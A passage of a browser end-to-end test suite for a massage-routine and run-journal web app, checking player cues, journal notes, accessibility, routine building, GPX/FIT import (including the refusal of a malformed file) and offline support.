  await page.clock.runFor((steps[0].seconds + 20 - 2) * 1000 - 1);
  await page.clock.runFor(2);
  // The bridge draws it on the player's overlay: the layer and the word are shown, the switch's colour on.
  await page.locator(".flash-overlay[data-cue=switch][data-beat]").waitFor({ state: "attached" });
  const flash = await page.evaluate(() => {
    const layer = document.querySelector(".flash-overlay > .flash");
    const wordEl = document.querySelector(".flash-overlay > .flash-word");
    const [w, t] = [wordEl.getBoundingClientRect(), document.querySelector("[role=timer]").getBoundingClientRect()];
    const l = layer.getBoundingClientRect();
    return {
      blend: getComputedStyle(layer).mixBlendMode, colour: getComputedStyle(layer).backgroundColor,
      covers: l.width >= innerWidth && l.height >= innerHeight, wordShown: w.width > 0 && w.height > 0,
      overlap: !(w.bottom <= t.top || w.top >= t.bottom || w.right <= t.left || w.left >= t.right), word: wordEl.textContent,
    };
  });
  assert.equal(flash.blend, "difference", "the flash inverts, it does not paint over");
  assert.ok(flash.covers, "the flash covers the whole screen");
  assert.equal(flash.colour, "rgb(255, 209, 102)", "the switch's flash has its own colour");
  assert.ok(flash.wordShown && flash.word === "Switch", `the flash word is not shown: "${flash.word}"`);
  assert.equal(flash.overlap, false, `the flash word "${flash.word}" lies over the digits`);
  await shot(page, "player-switch-flash", "allow");
  // The switch segment keeps its own 5 s after the held side. The app steps into it once the flash's frame
  // has gone out (the runner waits for it), which the paused clock holds until it moves a frame on.
  await page.clock.runFor(20);
  assert.equal(await remaining(), 5);
  // Back mid-session keeps what was done, as End does (End says so; Back cannot ask first): the journal counts
  // the session this week. Opened from its routine's Start, as a runner does, so Back stays in the app.
  await page.goto(server.url + "/routines/calves-roller");
  await page.getByRole("button", { name: "Start Calves on the foam roller" }).tap();
  await page.getByRole("timer").waitFor();
  await page.clock.runFor(40_000); // 30 s into the first side
  await page.goBack();
  await page.getByRole("heading", { name: "Calves on the foam roller", level: 1 }).waitFor();
  await tab(page, "Journal").tap();
  await until(page, () => [...document.querySelectorAll("svg.bars title")].some((t) => /: 1$/.test(t.textContent)),
    "the session left with Back in the sessions per week");
  assert.deepEqual(errors, []);
  await context.close();
});

test("(k) honest Done, length chosen at the routine, shins guidance, a note dated yesterday, several areas charted", async () => {
  const { page, context, errors } = await pageAt({ width: 390, height: 844 });
  // Home's post-run suggestion (18:00 local) is calves and feet.
  await page.getByRole("heading", { name: "Post-run: calves & feet" }).waitFor();
  // Length at the routine: Quick halves the sides, and is remembered.
  await page.goto(server.url + "/routines/calves-roller");
  const total = () => page.locator(".meta").filter({ hasText: /^Total / }).textContent();
  const standard = await total();
  await page.getByRole("group", { name: "Length" }).getByRole("button", { name: "Quick" }).tap();
  assert.notEqual(await total(), standard);
  assert.match(await total(), /\(quick\)/);
  await tab(page, "Settings").tap();
  const settingsLength = page.getByRole("group", { name: "Length of each step" });
  assert.equal(await settingsLength.getByRole("button", { name: "Quick", pressed: true }).count(), 1, "Settings shows the remembered length");
  await tab(page, "Routines").tap();
  await page.getByRole("link", { name: /Calves on the foam roller/ }).tap();
  assert.match(await total(), /\(quick\)/, "the routine page remembers the last choice");
  await page.getByRole("group", { name: "Length" }).getByRole("button", { name: "Standard" }).tap();

  // Skip almost everything: Done says what ran, not 100%.
  await page.getByRole("button", { name: "Start Calves on the foam roller" }).tap();
  await page.getByRole("timer").waitFor();
  await page.clock.runFor(10_000 + 15_000); // 15 s into the first side
  for (let i = 0; i < 20 && (await page.getByRole("heading", { name: "Session ended" }).count()) === 0 && (await page.getByRole("heading", { name: "Done" }).count()) === 0; i++) {
    await page.getByRole("button", { name: "Skip" }).tap();
  }
  await page.clock.runFor(100);
  await page.getByRole("heading", { name: "Done" }).waitFor();
  const done = await page.locator(".done-screen").textContent();
  assert.match(done, /15 s of massage/);
  assert.doesNotMatch(done, /100%/);
  assert.match(done, /Skipped: /);
  await shot(page, "player-done-skipped");
  await page.clock.resume();
  await page.getByRole("link", { name: "Log how you feel" }).tap();
  // Dated yesterday evening; calves and then shins added with the picker.
  await page.getByLabel("Date and time you felt this").fill("2026-11-19T19:30");
  await page.getByLabel("Calves soreness, 0 to 10").fill("6");
  await page.getByLabel("Add an area").selectOption("shins");
  await page.getByLabel("Shins soreness, 0 to 10").fill("3");
  // The picker is back at "Choose…", not showing the next area as if it were chosen (picking that one would
  // change nothing, so it could not be added).
  const picker = await page.getByLabel("Add an area").evaluate((s) => [s.value, s.options[s.selectedIndex].text]);
  assert.deepEqual(picker, ["", "Choose…"], "the area picker after adding an area");
  // An area added by mistake and removed: focus goes to the picker (the button went with its row), which offers
  // the area again.
  await page.getByLabel("Add an area").selectOption("quads");
  await page.getByRole("button", { name: "Remove Quads" }).tap();
  await until(page, () => document.activeElement?.id === "add-area", "focus on the area picker after removing an area");
  assert.ok((await page.getByLabel("Add an area").locator("option").allTextContents()).includes("Quads"));
  await page.getByRole("button", { name: "Save note" }).tap();
  await page.getByRole("heading", { name: /Thu 19 Nov 2026, 19:30/ }).waitFor();
  const detail = await page.locator("main").textContent();
  assert.match(detail, /15 s of massage, \d+% of the routine/);
  assert.match(detail, /Skipped: /);
  // Edited and saved, the note's page is in the history once: Back leaves it.
  await page.getByRole("link", { name: "Edit" }).tap();
  await page.getByRole("textbox", { name: "Note" }).fill("Calves eased by the evening");
  await page.getByRole("button", { name: "Save note" }).tap();
  await page.getByText("Calves eased by the evening").waitFor();
  await page.goBack();
  await until(page, () => !!document.querySelector("h1") && !/19 Nov 2026, 19:30/.test(document.querySelector("h1").textContent), "Back to leave the note's page");
  // A note in the future is refused in plain words.
  await page.goto(server.url + "/journal/log");
  await page.getByLabel("Date and time you felt this").fill("2027-01-01T10:00");
  await page.getByRole("button", { name: "Save note" }).tap();
  await page.getByText(/is in the future/).waitFor();
  // The journal charts every logged area at once, labels at least 12 px.
  await tab(page, "Journal").tap();
  await page.getByRole("button", { name: "90 days" }).tap();
  assert.equal(await page.locator("figure.area-trend").count(), 2);
  const smallest = await page.locator(".chart .axis").evaluateAll((ts) => Math.min(...ts.map((t) => t.getBoundingClientRect().height)));
  assert.ok(smallest >= 12, `axis labels ${smallest} px high`);
  await shot(page, "journal-trends");
  // Shins: guidance, not "0 routines" and nothing else.
  await tab(page, "Home").tap();
  await page.getByRole("button", { name: "Shins" }).tap();
  await page.getByRole("heading", { name: /Sore shins/ }).waitFor();
  await page.getByText(/Never roll or press on the shin bone/).waitFor();
  await page.getByText(/see a clinician/).first().waitFor();
  await shot(page, "routines-shins");
  assert.deepEqual(errors, []);
  await context.close();
});

const AXE = path.join(ROOT, "tests/e2e/node_modules/axe-core/axe.min.js");

/** axe-core's violations on the page as it is now (WCAG 2 A/AA and best practices), as readable lines. */
async function axeViolations(page) {
  if (!(await page.evaluate(() => typeof window.axe === "object"))) await page.addScriptTag({ path: AXE });
  const violations = await page.evaluate(async () => (await window.axe.run(document, { resultTypes: ["violations"] })).violations);
  return violations.map((v) => `${v.id}: ${v.help} — ${v.nodes.slice(0, 3).map((n) => n.target.join(" ")).join(" | ")}`);
}

test("(l) axe-core finds nothing on any screen, light and dark; dialogs take focus and give it back", async () => {
  for (const colorScheme of ["light", "dark"]) {
    // Real time here: axe-core schedules its work on the page's timers.
    const found = [];
    const checkOn = async (page, name) => {
      for (const v of await axeViolations(page)) found.push(`${colorScheme} ${name}: ${v}`);
    };
    const { page, context, errors } = await pageAt({ width: 390, height: 844 }, {
      colorScheme, clock: false, onSafetyNotes: (gate) => checkOn(gate, "first-start safety notes"),
    });
    const check = (name) => checkOn(page, name);
    await check("home");
    // A note (with a session) to show in the journal and its detail page.
    await page.goto(server.url + "/journal/log");
    await page.getByLabel("Add an area").selectOption("quads");
    await check("log form");
    await page.getByRole("button", { name: "Save note" }).tap();
    await page.getByText(/Feel 3\/5/).waitFor();
    await check("note detail");
    for (const [p, ready] of [
      ["/routines", "Routines"], ["/routines/post-run-lower-body", "Post-run: full lower body"], ["/library", "Library"],
      ["/library/techniques/petrissage", "Petrissage"], ["/library/methods/foam-roller", null], ["/library/safety", null],
      ["/journal", "Journal"], ["/settings", "Settings"], ["/builder/new", "New routine"], ["/builder/copy/calves-roller", null],
      ["/journal/runs/new", "Log a run"], ["/journal/areas/quads", "Quads"], ["/journal/load", "Training load"], ["/", "Unknot"],
    ]) {
      await page.goto(server.url + p);
      await page.locator("h1").first().waitFor();
      if (ready) await page.getByRole("heading", { name: ready, level: 1 }).waitFor();
      await check(p);
    }
    await tab(page, "Home").tap();
    await page.getByRole("button", { name: "Shins" }).tap();
    await page.getByRole("heading", { name: /Sore shins/ }).waitFor();
    await check("routines for shins");

    // A run's page (an imported run), with a problem shown at its field, and its delete dialog.
    await page.goto(server.url + "/journal/runs/new");
    await page.getByLabel("Import a run file").setInputFiles(path.join(ROOT, "tests", "fixtures", "thursday-long-run.gpx"));
    await page.getByRole("link", { name: "Set its type and effort" }).tap();
    await page.getByRole("heading", { name: "Run", level: 1 }).waitFor();
    await check("run page");
    await page.getByLabel("Time (minutes, or h:mm:ss)").fill("1:99");
    await page.getByRole("button", { name: "Save run" }).tap();
    await page.locator("#run-time-error").waitFor();
    await check("run page with a problem");
    await page.getByRole("button", { name: "Delete this run" }).tap();
    await page.getByRole("alertdialog").waitFor();
    await until(page, () => document.activeElement?.closest("[role=alertdialog]") !== null, "focus in the run's delete dialog");
    await check("run delete dialog");
    await page.keyboard.press("Escape");
    await page.getByRole("alertdialog").waitFor({ state: "detached" });
    if (colorScheme === "dark") await shot(page, "run-page-dark");

    // The delete dialog: focus moves in, Tab stays in, Escape closes it and focus goes back to its button.
    await tab(page, "Settings").tap();
    const opener = page.getByRole("button", { name: "Delete all journal data" });
    await opener.tap();
    const dialog = page.getByRole("alertdialog");
    await dialog.waitFor();
    await until(page, () => document.activeElement?.closest("[role=alertdialog]") !== null, "focus in the dialog");
    await page.keyboard.press("Tab");
    await page.keyboard.press("Tab");
    assert.ok(await page.evaluate(() => document.activeElement?.closest("[role=alertdialog]") !== null), "Tab left the dialog");
    await check("delete dialog");
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
    await until(page, () => document.activeElement?.textContent === "Delete all journal data", "focus back on the button that opened the dialog");

    // The player: get ready, work, switch, paused, locked, and done.
    await openSession(page, "calves-roller");
    await check("player get ready");
    await page.getByRole("button", { name: "Skip" }).tap();
    await page.getByRole("button", { name: /Hold here/ }).waitFor();
    await check("player work");
    await page.getByRole("button", { name: "Skip" }).tap();
    await page.getByText("Switch sides").waitFor();
    await check("player switch");
    await page.getByRole("button", { name: "Pause" }).tap();
    await page.getByText("Paused").waitFor();
    await check("player paused");
    await page.getByRole("button", { name: "Lock the screen against touches" }).tap();
    await check("player locked");
    await page.getByRole("button", { name: "Hold to unlock" }).press("Enter");
    await page.getByRole("button", { name: "End session" }).tap();
    await page.getByRole("alertdialog").waitFor();
    await check("end dialog");
    await page.getByRole("button", { name: "End session" }).last().tap();
    await page.getByRole("heading", { name: "Session ended" }).waitFor();
    await check("player ended");
    if (colorScheme === "dark") await shot(page, "player-ended-dark");
    assert.deepEqual(found, [], found.join("\n"));
    assert.deepEqual(errors, []);
    await context.close();
  }
});

test("(m) build a two-step routine of your own, run it with every cue on its millisecond, star it, find it on Home, and keep it through export, wipe and import", async () => {
  const { page, context, errors } = await newPage();
  await tab(page, "Routines").tap();
  await page.getByRole("link", { name: "New routine" }).tap();
  await page.getByRole("heading", { name: "New routine", level: 1 }).waitFor();

  // Saving without a name or steps shows each problem next to its field, and saves nothing.
  await page.getByRole("button", { name: "Save routine" }).tap();
  const problems = page.getByRole("alert");
  await problems.getByText("Name: must not be empty").waitFor();
  await problems.getByText("Steps: add at least one, under Add a step below").waitFor();
  assert.equal(await page.getByLabel("Name", { exact: true }).getAttribute("aria-invalid"), "true");
  await page.locator("#routine-name-error").getByText("Must not be empty.").waitFor();

  // Two steps from the library: a calf step from the roller routine, a sole step from the tennis-ball one.
  await page.getByLabel("Name", { exact: true }).fill("Track calves 🏃");
  await page.getByRole("button", { name: "Add Calf sweep, from Calves on the foam roller" }).tap();
  await page.getByLabel("Steps for body area").selectOption({ label: "Feet" });
  await page.getByRole("button", { name: "Add Across the sole, from Soles of the feet with a tennis ball" }).tap();
  // The sole step done once for both feet, a minute; the calf step 30 s a side; the sole step first.
  await page.getByRole("group", { name: "Sides for Across the sole" }).getByRole("button", { name: "Both at once" }).tap();
  for (let i = 0; i < 3; i++) await page.getByRole("button", { name: "More Seconds for Across the sole" }).tap();
  for (let i = 0; i < 6; i++) await page.getByRole("button", { name: "Less Seconds per side for Calf sweep" }).tap();
  await page.getByRole("button", { name: "Move Across the sole up" }).tap();
  // Focus stays with the moved step (on its Down button, now that Up is disabled at the top).
  await page.clock.runFor(100); // the focus moves on the next animation frame, which the paused clock holds
  assert.equal(await page.evaluate(() => document.activeElement?.getAttribute("aria-label")), "Move Across the sole down");
  await page.getByLabel("Name of step 1").fill("Sole rolls");
  await page.getByRole("button", { name: "More Rest between steps" }).tap();
  const steps = [
    { title: "Sole rolls", sided: false, seconds: 60, pace: 0 },
    { title: "Calf sweep", sided: true, seconds: 30, pace: 0 },
  ];
  const plan = expectedCues(steps, { rest: 10 });
  // Live total: 10 s get ready + 60 + 10 rest + 30 + 5 switch + 30.
  assert.equal(plan.total, 145_000);
  await page.getByRole("status").filter({ hasText: "Total 2 min 25 s · 2 steps" }).waitFor();
  await shot(page, "builder");
  await page.getByRole("button", { name: "Save routine" }).tap();
  await page.getByRole("heading", { name: "Track calves 🏃", level: 1 }).waitFor();
  const titles = await page.locator(".steps h3").allTextContents();
  assert.deepEqual(titles, ["1. Sole rolls", "2. Calf sweep"]);

  // Star it.
  const star = page.getByRole("button", { name: "Favourite: Track calves 🏃" });
  assert.equal(await star.getAttribute("aria-pressed"), "false");
  await star.tap();
  await page.getByRole("button", { name: "Favourite: Track calves 🏃", pressed: true }).waitFor();
  await shot(page, "routine-of-your-own");

  // Run it: every cue felt and heard on its planned millisecond.
  await page.getByRole("button", { name: "Start Track calves 🏃" }).tap();
  await page.getByText("Get ready").waitFor();
  await page.clock.runFor(plan.total + 500);
  await page.getByRole("heading", { name: "Done" }).waitFor();
  const recorded = await cues(page);
  const start = recorded.find((e) => e.type === "wake").t;
  const feel = felt(recorded);
  assert.deepEqual(feel.map((e) => e.shape), plan.cues.map((c) => FEEL[c.cue]), "what is felt, cue by cue");
  for (const [i, c] of plan.cues.entries()) {
    assert.ok(Math.abs(feel[i].t - (start + c.at)) <= 1, `vibration ${i} (${c.cue}) felt at ${feel[i].t - start}, planned ${c.at}`);
  }
  const sound = heard(recorded);
  assert.deepEqual(sound.map((e) => e.cue), plan.cues.map((c) => c.cue), "what is heard, cue by cue");
  const latency = await page.evaluate(() => new AudioContext().outputLatency * 1000);
  for (const [i, c] of plan.cues.entries()) {
    assert.ok(Math.abs(sound[i].t - latency - (start + c.at)) <= 1, `sound ${i} (${c.cue}) heard at ${sound[i].t - start}, planned ${c.at}`);
  }
  const flashes = flashed(recorded);
  const flashPlan = plan.cues.filter((c) => c.cue in FLASH_WORD);
  assert.deepEqual(flashes.map((f) => [f.cue, f.word]), flashPlan.map((c) => [c.cue, FLASH_WORD[c.cue]]), "what is seen, flash by flash");
  for (const [i, c] of flashPlan.entries()) {
    assert.ok(Math.abs(flashes[i].t - (start + c.at)) <= 1, `flash ${i} (${c.cue}) drawn at ${flashes[i].t - start}, planned ${c.at}`);
  }
  const said = recorded.filter((e) => e.type === "say").map((e) => e.text);
  assert.deepEqual(said, ["Sole rolls.", "Calf sweep, left leg.", "Switch to your right leg.", "Calf sweep, right leg.", "Session complete."]);
  await page.clock.resume();

  // Home offers it first, among the favourites.
  await page.getByRole("link", { name: "Back to home" }).tap();
  const favourites = page.getByRole("region", { name: "Your favourites" });
  await favourites.getByRole("link", { name: /Track calves 🏃/ }).waitFor();
  await shot(page, "home-favourites");

  // Export, wipe, import: the routine and its star come back.
  await tab(page, "Settings").tap();
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export JSON" }).tap()]);
  const file = path.join(os.tmpdir(), `unknot-routine-export-${process.pid}.json`);
  await download.saveAs(file);
  const exported = JSON.parse(fs.readFileSync(file, "utf8"));
  assert.equal(exported.version, 4);
  assert.deepEqual(exported.runs, []);
  assert.deepEqual(exported.routines.map((r) => r.routine.name), ["Track calves 🏃"]);
  assert.ok(exported.favourites.includes(exported.routines[0].routine.id));
  assert.equal(exported.session_routines.length, 1);
  await page.getByRole("button", { name: "Delete all journal data" }).tap();
  await page.getByRole("button", { name: "Delete everything" }).tap();
  await page.getByText("All notes, sessions and routines of your own were deleted.").waitFor();
  await tab(page, "Routines").tap();
  await page.getByRole("group", { name: "Show" }).getByRole("button", { name: "Yours" }).tap();
  await page.getByText("You have not built a routine yet.").waitFor();
  await tab(page, "Home").tap();
  await page.getByRole("heading", { name: "Unknot" }).waitFor();
  assert.equal(await page.getByRole("region", { name: "Your favourites" }).count(), 0);
  await tab(page, "Settings").tap();
  await page.getByLabel("Import a journal file").setInputFiles(file);
  await page.getByText(/1 routine added/).waitFor();
  await tab(page, "Home").tap();
  await page.getByRole("region", { name: "Your favourites" }).getByRole("link", { name: /Track calves 🏃/ }).tap();
  await page.getByRole("heading", { name: "Track calves 🏃", level: 1 }).waitFor();
  fs.rmSync(file);

  // The builder fits a 320 px phone, also at 200 % text.
  await page.setViewportSize({ width: 320, height: 640 });
  await page.getByRole("link", { name: "Edit Track calves 🏃" }).tap();
  await page.getByRole("heading", { name: "Edit routine", level: 1 }).waitFor();
  for (const size of ["100%", "200%"]) {
    await page.evaluate((s) => { document.documentElement.style.fontSize = s; }, size);
    const [scroll, inner] = await page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth]);
    assert.ok(scroll <= inner, `the builder is ${scroll} px wide in a ${inner} px window at ${size} text`);
  }
  await shot(page, "builder-320-200pct");
  // Saved, the edit leaves one copy of the routine's page in the history: Back goes where it went before the
  // edit (Home), not to the routine's page again.
  await page.evaluate(() => { document.documentElement.style.fontSize = ""; });
  await page.getByRole("button", { name: "Save routine" }).tap();
  await page.getByRole("heading", { name: "Track calves 🏃", level: 1 }).waitFor();
  await page.goBack();
  await page.getByRole("heading", { name: "Unknot", level: 1 }).waitFor();
  assert.deepEqual(errors, []);
  await context.close();
});

test("(n) log a run, import a watch's GPX file, read why Home suggests what it does, tap the body map, see soreness on it", async () => {
  const { page, context, errors } = await newPage();
  // The GPX and FIT parsers are a module of their own, fetched at the first import, not with the app.
  const runFileRequests = [];
  page.on("request", (r) => { if (r.url().includes("/pkg/run-file/")) runFileRequests.push(r.url()); });
  // A run by hand: type, distance, time, effort — in seconds.
  await page.getByRole("link", { name: "Log a run" }).first().tap();
  await page.getByRole("heading", { name: "Log a run", level: 1 }).waitFor();
  await page.getByRole("group", { name: "Type of run" }).getByRole("button", { name: "Easy" }).tap();
  await page.getByLabel("Distance (km)").fill("6.5");
  await page.getByLabel("Time (minutes, or h:mm:ss)").fill("34:20");
  await page.getByLabel("Effort, RPE 1–10 (optional)").fill("4");
  await page.getByRole("button", { name: "Save run" }).tap();
  await page.getByRole("heading", { name: "Unknot" }).waitFor();
  await page.getByText(/Last run: .* easy run, 6\.5 km · 34:20/).waitFor();

  // A hostile file first: refused in plain words, nothing added.
  await page.getByRole("link", { name: "Log a run" }).first().tap();
  assert.deepEqual(runFileRequests, [], "the run-file parsers were fetched before any import");
  const picker = page.getByLabel("Import a run file");
  await picker.setInputFiles({ name: "evil.gpx", mimeType: "application/gpx+xml", buffer: Buffer.from("<gpx><trk><trkseg><trkpt lat=\"91\" lon=\"0\"/>") });
  await page.getByRole("status").getByText(/The file evil\.gpx was not imported, nothing was changed: the GPX file/).waitFor();
  // The watch's file (Thursday's 19 km long run), twice: the second time adds nothing.
  const gpx = path.join(ROOT, "tests", "fixtures", "thursday-long-run.gpx");
  await page.getByLabel("Import a run file").setInputFiles(gpx);
  await page.getByRole("status").getByText(/Imported thursday-long-run\.gpx: a long run of 19\.\d km · 1:45:36/).waitFor();
  await page.getByLabel("Import a run file").setInputFiles(gpx);
  await page.getByRole("status").getByText(/was imported before; nothing was added/).waitFor();
  // A FIT file (binary, from the FIT SDK's examples) is read by the same module.
  await page.getByLabel("Import a run file").setInputFiles(path.join(ROOT, "tests", "fixtures", "sdk-activity.fit"));
  await page.getByRole("status").getByText(/Imported sdk-activity\.fit: an? (easy|long) run of [\d.]+ km/).waitFor();
  assert.ok(runFileRequests.some((u) => u.endsWith(".wasm")), runFileRequests.join(", "));
  await shot(page, "log-run");

  // Home says why: the long run loaded the calves most.
  await tab(page, "Home").tap();
  const hero = page.locator("section.hero");
  await hero.getByText(/calves .*(yesterday's|Thursday's) long run \(19\.\d km\)/i).waitFor();
  await page.getByRole("heading", { name: "Also worth doing" }).waitFor();
  await shot(page, "home-after-runs");

  // Tap the calves on the map: their routines, best fit first.
  await page.locator('.map-area[data-area="calves"]').first().tap();
  await page.getByRole("heading", { name: "Routines", level: 1 }).waitFor();
  const names = await page.locator(".routine-name").allTextContents();
  assert.ok(names[0] && /calves/i.test(names[0]), names.join(", "));
  // In view without scrolling: the area's card and its first routine, not the filters above them (the first
  // routine was 1.3 screens down at 390×844, under the filters and the area's safety notes). It scrolls in the
  // next frame, which the fake clock gives.
  await page.clock.runFor(50);
  await until(page, () => {
    const card = document.querySelector(".area-card").getBoundingClientRect();
    const first = document.querySelector(".routine-card").getBoundingClientRect();
    return card.top >= 0 && first.top >= 0 && first.top < innerHeight - 100;
  }, "the calves' card and first routine in view");

  // Sore quads logged: the map shows the number, the list says it in words, and the trend is a tap away.
  await page.goto(server.url + "/journal/log");
  await page.getByLabel("Add an area").selectOption("quads");
  await page.getByLabel("Quads soreness, 0 to 10").fill("7");
  await page.getByRole("button", { name: "Save note" }).tap();
  await page.getByText(/Feel 3\/5/).waitFor();
  await tab(page, "Home").tap();
  await page.locator('.map-area[data-area="quads"] text').first().waitFor();
  assert.equal(await page.locator('.map-area[data-area="quads"] text').first().textContent(), "7");
  await page.getByRole("button", { name: "Quads 7/10, strong this week. Show routines" }).waitFor();
  await hero.getByText(/^Quads 7\/10 in today's note/).waitFor();
  await page.getByRole("link", { name: "Quads trend" }).tap();
  await page.getByRole("heading", { name: "Soreness beside weekly distance" }).waitFor();
  await page.getByRole("cell", { name: "7/10" }).waitFor();
  await page.getByRole("cell", { name: /25\.\d km/ }).waitFor();
  await shot(page, "area-trend-quads");

  // The imported run was guessed long with no effort: open it from the journal and correct it.
  await tab(page, "Journal").tap();
  const runLink = () => page.getByRole("link", { name: /^Thu 19 Nov · / });
  await runLink().tap();
  await page.getByRole("heading", { name: "Run", level: 1 }).waitFor();
  await page.getByText("Read from thursday-long-run.gpx", { exact: false }).waitFor();
  const kinds = page.getByRole("group", { name: "Type of run" });
  assert.equal(await kinds.getByRole("button", { name: "Long" }).getAttribute("aria-pressed"), "true");
  await kinds.getByRole("button", { name: "Workout" }).tap();
  await page.getByLabel("Effort, RPE 1–10 (optional)").fill("7");
  await shot(page, "run-page");
  await page.getByRole("button", { name: "Save run" }).tap();
  await page.getByRole("heading", { name: "Journal", level: 1 }).waitFor();
  await page.getByRole("link", { name: /^Thu 19 Nov · Workout · 19\.\d km · 1:45:36 · effort 7\/10$/ }).waitFor();
  // A bad distance is shown at its field and saves nothing; a good one is kept.
  await runLink().tap();
  await page.getByLabel("Distance (km)").fill("20..5");
  await page.getByRole("button", { name: "Save run" }).tap();
  await page.locator("#run-distance-error").getByText(/is not a distance in kilometres/).waitFor();
  assert.equal(await page.getByLabel("Distance (km)").getAttribute("aria-invalid"), "true");
  await page.getByLabel("Distance (km)").fill("20.5");
  await page.getByRole("button", { name: "Save run" }).tap();
  await page.getByRole("link", { name: /^Thu 19 Nov · Workout · 20\.5 km · 1:45:36 · effort 7\/10$/ }).waitFor();
  // Delete, behind a confirmation that takes focus, keeps Tab inside, closes on Escape and gives focus back.
  await runLink().tap();
  const del = page.getByRole("button", { name: "Delete this run" });
  await del.tap();
  const dialog = page.getByRole("alertdialog", { name: "Delete this run?" });
  await dialog.waitFor();
  // The dialog moves focus in an animation frame, and this page's clock only moves when told to.
  await page.clock.runFor(100);
  await until(page, () => document.activeElement?.closest("[role=alertdialog]") !== null, "focus in the run's delete dialog");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Tab");
  assert.ok(await page.evaluate(() => document.activeElement?.closest("[role=alertdialog]") !== null), "Tab left the dialog");
  await page.keyboard.press("Escape");
  await dialog.waitFor({ state: "detached" });
  await page.clock.runFor(100);
  await until(page, () => document.activeElement?.textContent === "Delete this run", "focus back on Delete this run");
  await del.tap();
  await dialog.getByRole("button", { name: "Delete" }).tap();
  await page.getByRole("heading", { name: "Journal", level: 1 }).waitFor();
  await page.getByRole("link", { name: /^Fri 20 Nov · Easy · 6\.5 km/ }).waitFor();
  assert.equal(await runLink().count(), 0, "the deleted run is gone from the list");
  // Imported again, it comes back exactly once (as the file says: long, no effort), and a third time adds nothing.
  await page.getByRole("link", { name: "Log a run" }).first().tap();
  await page.getByLabel("Import a run file").setInputFiles(gpx);
  await page.getByRole("status").getByText(/Imported thursday-long-run\.gpx: a long run/).waitFor();
  await page.getByLabel("Import a run file").setInputFiles(gpx);
  await page.getByRole("status").getByText(/was imported before; nothing was added/).waitFor();
  await page.getByRole("link", { name: "Set its type and effort" }).tap();
  await page.getByRole("heading", { name: "Run", level: 1 }).waitFor();
  assert.equal(await page.getByRole("group", { name: "Type of run" }).getByRole("button", { name: "Long" }).getAttribute("aria-pressed"), "true");
  await tab(page, "Journal").tap();
  await page.getByRole("heading", { name: "Journal", level: 1 }).waitFor();
  assert.equal(await runLink().count(), 1, "re-imported exactly once");
  assert.deepEqual(errors, []);
  await context.close();

  // Every area of the body map is a target of at least 24 × 24 CSS px on a 320 px phone (WCAG 2.5.8), and a
  // tap on a drawn area still opens that area.
  const small = await pageAt({ width: 320, height: 568 });
  const map = await small.page.evaluate(() => {
    const hits = [...document.querySelectorAll(".map-hit")].map((r) => {
      const b = r.getBoundingClientRect();
      return { area: r.dataset.area, side: r.dataset.side, w: b.width, h: b.height };
    });
    const drawn = [...document.querySelectorAll(".map-area rect")].map((r) => {
      // On screen first: elementFromPoint sees only the viewport.
      r.scrollIntoView({ block: "center" });
      const b = r.getBoundingClientRect();
      const at = document.elementFromPoint(b.left + b.width / 2, b.top + b.height / 2);
      return { area: r.closest(".map-area").dataset.area, w: b.width, h: b.height, opens: at?.closest("[data-area]")?.dataset.area };
    });
    return { hits, drawn, areas: [...new Set([...document.querySelectorAll(".map-area")].map((g) => g.dataset.area))] };
  });
  console.log("body map at 320×568, smallest drawn and hit boxes (px):", JSON.stringify({
    drawn: Math.min(...map.drawn.map((d) => Math.min(d.w, d.h))).toFixed(1),
    hit: Math.min(...map.hits.map((d) => Math.min(d.w, d.h))).toFixed(1),
  }));
  assert.equal(map.hits.length, map.drawn.length, "one hit shape per drawn shape");
  for (const area of map.areas) assert.ok(map.hits.some((h) => h.area === area), `${area} has no hit shape`);
  for (const h of map.hits) assert.ok(h.w >= 24 && h.h >= 24, `${h.area} ${h.side}: ${h.w.toFixed(1)}×${h.h.toFixed(1)} px`);
  for (const d of map.drawn) assert.equal(d.opens, d.area, `a tap in the middle of ${d.area} opens ${d.opens}`);
  await shot(small.page, "body-map-320");
  assert.deepEqual(small.errors, []);
  await small.context.close();
});

// ---------------------------------------------------------------------------------------------------------
// Fast and light: nothing left behind per session, installable and offline, a saved note survives a kill,
// the first frame is styled.

test("(o) a session leaves nothing behind: event listeners are the same after the 2nd session as after the 5th", async () => {
  const { page, context, errors } = await newPage();
  const cdp = await context.newCDPSession(page);
  const listeners = async () => {
    await cdp.send("HeapProfiler.collectGarbage");
    return (await cdp.send("Memory.getDOMCounters")).jsEventListeners;
  };
  await tab(page, "Routines").tap();
  await page.getByRole("link", { name: /Calves with a tennis ball/ }).first().tap();
  const start = page.getByRole("button", { name: /^Start / });
  const counts = [];
  for (let i = 1; i <= 5; i++) {
    // In-app navigation only (no reload): the player mounts, runs a few seconds, and unmounts.
    await start.tap();
    await page.getByText("Get ready").waitFor();
    await page.clock.runFor(3000);
    await page.goBack();
    await start.waitFor();
    await page.clock.runFor(1000);
    counts.push(await listeners());
  }
  assert.equal(counts[4], counts[1], `JS event listeners after each session: ${counts.join(", ")}`);
  assert.deepEqual(errors, []);
  await context.close();
});

/** Logs a note from the Journal's form (feel 4 of 5 and `text`) and waits until the app shows it as saved. */
async function logNote(page, text) {
  await page.getByRole("heading", { name: "How do you feel?" }).waitFor();
  await page.getByRole("radio", { name: /4 of 5/ }).tap();
  await page.getByLabel("Note").fill(text);
  await page.getByRole("button", { name: "Save note" }).tap();
  await page.getByText(text).waitFor();
  await page.getByText("Feel 4/5 · Good").waitFor();
}

test("(p) installable, and offline after one visit: reload with no server, run a routine, log a note", async () => {
  const own = await serve();
  const context = await browser.newContext(PHONE);
  await context.addInitScript(RECORDER);
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e));
  await page.clock.install({ time: T0 });
  await page.goto(own.url + "/");
  await acceptSafety(page);
  // The manifest a browser installs from, with icons that load.
  const manifest = await page.evaluate(async () => {
    const m = await (await fetch(document.querySelector("link[rel=manifest]").href)).json();
    const icons = await Promise.all(m.icons.map(async (i) => ({ ...i, ok: (await fetch(i.src)).ok })));
    return { ...m, icons };
  });
  assert.equal(manifest.display, "standalone");
  assert.equal(manifest.start_url, "/");
  assert.ok(manifest.icons.some((i) => i.sizes === "192x192" && i.type === "image/png"), JSON.stringify(manifest.icons));
  assert.ok(manifest.icons.every((i) => i.ok), JSON.stringify(manifest.icons));
  // The service worker has copied the app.
  await page.evaluate(() => navigator.serviceWorker.ready);

